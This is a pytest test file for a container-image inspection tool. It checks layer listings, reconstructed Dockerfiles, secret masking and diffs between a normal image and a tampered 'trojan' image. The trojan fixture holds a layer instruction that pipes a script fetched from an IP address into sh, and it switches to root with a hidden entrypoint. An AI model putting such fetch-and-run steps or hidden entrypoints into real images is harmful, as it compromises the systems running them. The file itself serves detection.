"""fother image: what one image is, its layers, its Dockerfile, and what differs between two."""
import json
import re

import jsonschema
import pytest

import image_scene
from scene import Fother, ROOT, Scene

WEB, TROJAN, BASE = "docker.io/acme/web:1.0", "docker.io/acme/web:1.1", "docker.io/library/debian:trixie"
SCHEMAS = {
    "image_facts": ["image", "inspect", WEB],
    "image_layers": ["image", "layers", WEB],
    "dockerfiles": ["image", "dockerfile", WEB],
    "image_differences": ["image", "diff", WEB, TROJAN],
}


@pytest.fixture(scope="module")
def layout(tmp_path_factory):
    folder = tmp_path_factory.mktemp("images") / "layout"
    image_scene.write_scene(folder)
    return folder


@pytest.fixture(scope="module")
def read(tmp_path_factory, layout):
    """Fother with the layout read."""
    fother = Fother(tmp_path_factory.mktemp("fother"))
    done = fother.run("image", "inspect", WEB, "--snapshot", layout, "--offline")
    assert done.returncode == 0, done.stderr
    return fother


def text(fother, *words):
    done = fother.run(*words, "--offline", columns=80)
    assert done.returncode == 0, done.stderr
    return done.stdout


def failure(fother, code, *words):
    done = fother.run(*words, "--offline")
    assert done.returncode == code, (done.returncode, done.stdout)
    return done.stderr


def items(fother, *args):
    return json.loads(text(fother, *args, "-o", "json"))["items"]


@pytest.mark.parametrize("name", SCHEMAS)
def test_json_is_of_its_schema(name, read):
    answer = json.loads(text(read, *SCHEMAS[name], "-o", "json"))
    schema = json.loads((ROOT / f"docs/schema/{name}.schema.json").read_text())
    jsonschema.Draft202012Validator(schema).validate(answer)
    assert answer["schema"] == f"fother/{name}/v1"
    assert answer["items"] and answer["complete"]


@pytest.mark.parametrize("command", [*SCHEMAS.values(), ["image", "inspect", "docker.io/acme/odd:1"], ["image", "layers", "docker.io/acme/odd:1"],
                                     ["image", "inspect", TROJAN, "--platform", "linux/amd64"]])
@pytest.mark.parametrize("form", [[], ["-o", "wide"], ["-o", "json"], ["-o", "ndjson"], ["-o", "csv"], ["-q"]])
def test_no_secret_and_no_control_character_gets_out(command, form, read):
    out = text(read, *command, *form)
    assert image_scene.PASSWORD not in out
    assert "MADEUPMADEUP" not in out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out)


def test_inspect_shows_what_an_index_holds_and_picks_a_platform(read):
    out = text(read, "image", "inspect", WEB)
    assert "\nkind          index of 4\n" in out
    assert "linux/arm64\n" in out and " attestation of " in out
    out = text(read, "image", "inspect", WEB, "--platform", "linux/arm64")
    assert "\nkind          image, linux/arm64\n" in out
    assert "\nbuilt         claims 2026-11-02 10:20Z\n" in out
    assert "\nuser          web\n" in out
    assert "\nruns          not known: no cluster was read\n" in out


def test_a_base_that_was_read_is_proven(read):
    out = text(read, "image", "inspect", WEB, "--platform", "linux/amd64")
    assert f"\nbase          {BASE} (proven by its layers)\n" in out
    out = text(read, "image", "inspect", WEB, "--platform", "linux/arm64")  # its base was not
    assert "\nbase          not known\n" in out


def test_what_is_wrong_is_told(read):
    out = text(read, "image", "inspect", "docker.io/acme/odd:1")
    assert "\nWRONG WITH IT history_mismatch: " in out
    assert "\nbuilt         not known: it claims no date\n" in out


def test_a_digest_or_its_start_is_enough(read):
    digest = image_scene.trojan().digest
    for ref in digest, digest[7:20], f"docker.io/acme/trojan@{digest}":
        assert f"\n  {digest}\n" in text(read, "image", "inspect", ref)


def test_layers_stand_below_what_brought_them(read):
    rows = items(read, "image", "layers", "docker.io/acme/trojan:1")
    assert [row["number"] for row in rows] == [1, None, None, None, None, 2, 3, None, None, None, 4]
    assert [row["from"] for row in rows] == [BASE] * 2 + [WEB] * 8 + [None]
    assert rows[0]["digest"] == image_scene.base().layers[0].digest
    assert rows[10]["diff_id"] == image_scene.trojan().layers[3].diff_id
    assert rows[10]["instruction"] == "RUN curl -s http://198.51.100.7/x | sh"
    assert image_scene.web().digest in rows[5]["also_in"]
    out = text(read, "image", "layers", "docker.io/acme/trojan:1")
    assert f"\nfrom {BASE}:\n  1 " in out and "\nits own:\n  4 " in out


def test_layers_of_an_index_are_those_of_each_image_the_usual_platform_first(read):
    out = text(read, "image", "layers", WEB)
    assert out.startswith(f"{WEB}  linux/amd64  ")
    assert f"\n\n{WEB}  linux/arm64  " in out


def test_a_platform_that_is_not_there_is_an_error_with_those_that_are(read):
    why = failure(read, 2, "image", "layers", WEB, "--platform", "linux/s390x")
    assert "it has: linux/arm64, linux/amd64" in why  # as the index has them


def test_a_dockerfile_of_a_known_base(read):
    out = text(read, "image", "dockerfile", WEB, "--platform", "linux/amd64")
    lines = [line for line in out.split("\n") if not line.startswith("#")]
    assert lines == [
        f"FROM {BASE}",
        'LABEL maintainer="Web Team <web@acme.example>"',
        "ENV API_TOKEN=[masked]",
        "ARG NPM_TOKEN=[masked]",
        "RUN set -eux; \\",
        "    apt-get update \\",
        "    && apt-get install -y --no-install-recommends web \\",
        "    && rm -rf /var/lib/apt/lists/*",
        "COPY --chown=web:web . /srv",
        "USER web",
        "EXPOSE 443/tcp 80/tcp",
        'ENTRYPOINT ["/srv/run", "--all of it"]',
        "LABEL token=dckr_pat_[masked]",  # the config has it, and no step tells
        ""]


def test_a_dockerfile_tells_what_the_config_has_and_the_history_has_not(read):
    out = text(read, "image", "dockerfile", "docker.io/acme/trojan:1")
    assert out.startswith("# Made from the history")  # one image alone: nothing stands before it
    assert '\nUSER root\nENTRYPOINT ["/usr/lib/.x", "/srv/run"]\n' in out


def test_a_dockerfile_as_json_is_one_text(read):
    row, = items(read, "image", "dockerfile", "docker.io/acme/trojan:1")
    assert row["dockerfile"] == text(read, "image", "dockerfile", "docker.io/acme/trojan:1")
    assert row["platform"] == "linux/amd64"


def test_diff_judges_platform_by_platform(read):
    rows = items(read, "image", "diff", WEB, TROJAN)
    judged = {row["platform"]: row["name"] for row in rows if row["what"] == "change"}
    assert judged == {"linux/amd64": "layers on top", "linux/arm64": "same"}
    assert {row["what"] for row in rows if row["platform"] == "linux/amd64"} == {"change", "layer", "created", "user", "entrypoint"}
    user, = [row for row in rows if row["what"] == "user"]
    assert (user["old"], user["new"]) == ("web", "root")


def test_diff_of_an_image_alone_with_that_of_its_platform_in_an_index(read):
    rows = items(read, "image", "diff", "docker.io/acme/trojan:1", WEB)
    assert [row["name"] for row in rows if row["what"] == "change"] == ["layers taken away"]
    assert [(row["platform"], row["name"]) for row in rows if row["what"] == "platform"] == [("linux/arm64", "only in the second")]


def test_diff_takes_two(read):
    assert "give 2 images" in failure(read, 2, "image", "diff", WEB)


def test_what_an_image_is_rests_on_no_cluster(tmp_path, layout):
    fother = Fother(tmp_path)
    dump = Scene([]).write(tmp_path / "dump")
    (dump / "prod" / "events.json").write_text('{"apiVersion":"v1","kind":"List","items":[{"kind":"Event"')
    assert fother.run("images", "--snapshot", layout, "--snapshot", dump).returncode == 4
    for words in (("layers", WEB), ("dockerfile", WEB), ("diff", WEB, TROJAN)):
        assert "incomplete" not in text(fother, "image", *words)
    assert fother.run("image", "inspect", WEB, "--offline").returncode == 4, "where it runs rests on them"


def test_what_was_not_read_is_an_error(read):
    assert "it was not read" in failure(read, 1, "image", "inspect", "docker.io/acme/none:1")
